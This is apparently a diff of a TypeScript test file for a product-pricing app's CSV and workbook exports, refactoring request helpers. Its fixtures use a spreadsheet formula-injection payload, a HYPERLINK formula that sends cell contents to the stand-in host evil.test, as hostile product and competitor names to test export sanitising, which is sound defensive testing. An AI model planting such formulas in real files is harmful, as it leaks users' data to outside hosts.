@@ -14,7 +14,7 @@ import { startTestApp, type TestApp } from "../harness.ts";
 import { startErp } from "../market/export/erp.ts";
 import { sheetsOf } from "../read_workbook.ts";
 import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
-import { bodyOf, everyItem, refusalOf } from "./answers.ts";
+import { everyItem, refusalOf, refuses } from "./answers.ts";
 
 const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
 
@@ -161,24 +161,24 @@ async function fill(app: TestApp): Promise<void> {
   for (const sku of ["=A", "B", "C"]) await addProduct(owner, sku, { title: RUNS, category: "K" });
   await push(app, [["=A", "acme", 90], ["B", "acme", 80], ["C", "bolt", 95]]);
   await untilJudged(app);
-  const { items } = await bodyOf(owner.get("/api/competitors"), 200);
+  const { items } = await owner.read("/api/competitors");
   const named = { displayName: RUNS };
-  await bodyOf(owner.patch(`/api/competitors/${items[0].id}`, named), 200);
-  await bodyOf(owner.post("/api/import-sources", { id: "other", name: RUNS }), 201);
-  const products = await bodyOf(owner.get("/api/products?limit=200"), 200);
+  await owner.change(`/api/competitors/${items[0].id}`, named);
+  await owner.create("/api/import-sources", { id: "other", name: RUNS });
+  const products = await owner.read("/api/products?limit=200");
   for (const { id, sku } of products.items) {
     if (!["=A", "B", "C"].includes(sku)) continue;
-    const { runId } = await bodyOf(app.manager.post(`/api/products/${id}/scrape-now`), 202);
+    const { runId } = await app.manager.begin(`/api/products/${id}/scrape-now`);
     await ended(app, runId);
   }
 }
 
 async function listed(caller: Caller, { path, isWhole }: FiledList, query: string): Promise<Row[]> {
   if (path === "/api/rules") {
-    const rules: Row[] = await bodyOf(caller.get(path), 200);
+    const rules: Row[] = await caller.read(path);
     return rules.toSorted((a, b) => Number(a.priority) - Number(b.priority));
   }
-  if (isWhole) return (await bodyOf(caller.get(`${path}?limit=200&${query}`), 200)).items;
+  if (isWhole) return (await caller.read(`${path}?limit=200&${query}`)).items;
   return await everyItem(caller, `${path}?limit=2&${query}`);
 }
 
@@ -240,7 +240,7 @@ async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void>
     csvCells(await (await app.viewer.get(`${path}.csv?${query}`)).text(), ";");
   const [names = [], ...rows] = await read("");
   const [german, english] = [await read("lang=de"), await read("lang=en")];
-  const rules = path === "/api/rules" ? await bodyOf(app.viewer.get(path), 200) : [];
+  const rules = path === "/api/rules" ? await app.viewer.read(path) : [];
   const sentences: string[][] = rules
     .toSorted((a: Row, b: Row) => Number(a.priority) - Number(b.priority))
     .map(({ sentence }: { sentence: Row }) => [sentence.de, sentence.en]);
@@ -284,7 +284,7 @@ withScrapingApp.test("every list is a CSV and a workbook of all that fits, in it
 /** Two prices in quarantine and two closed brakes, of products with hostile names. */
 async function fillWaiting(app: TestApp): Promise<{ readonly ruleId: string }> {
   const { owner } = app;
-  await bodyOf(owner.patch("/api/settings", { autoApply: true }), 200);
+  await owner.change("/api/settings", { autoApply: true });
   const skus = ["=A", "B"];
   for (const sku of skus) await addProduct(owner, sku, { title: RUNS, costPrice: 20 });
   app.clock.advance(HOUR_MS);
@@ -356,7 +356,7 @@ withScrapingApp.test("amounts in files are in major units, and a run's results a
   assertEquals([first?.get("name"), second?.get("priority")], ["Zweite", "7"]);
   match(second?.get("sentence") ?? "", /^Wenn /);
 
-  const [run] = (await bodyOf(app.viewer.get("/api/scrape-runs"), 200)).items;
+  const [run] = (await app.viewer.read("/api/scrape-runs")).items;
   const results = await rowsOfFile(app, `/api/scrape-runs/${run.id}/results.csv`);
   assertEquals(
     results.map((row) => [row.get("url"), row.get("status"), row.get("errorCode")]),
@@ -365,7 +365,7 @@ withScrapingApp.test("amounts in files are in major units, and a run's results a
   assertEquals(results.length, 1);
   for (const file of ["csv", "xlsx"]) {
     const path = `/api/scrape-runs/${"0".repeat(24)}/results.${file}`;
-    assertEquals((await refusalOf(app.viewer.get(path))).code, "not_found");
+    await refuses(app.viewer.get(path), "not_found");
     const refused = await refusalOf(
       app.viewer.get(`/api/proposals.${file}?status=applied&sort=rule`),
     );
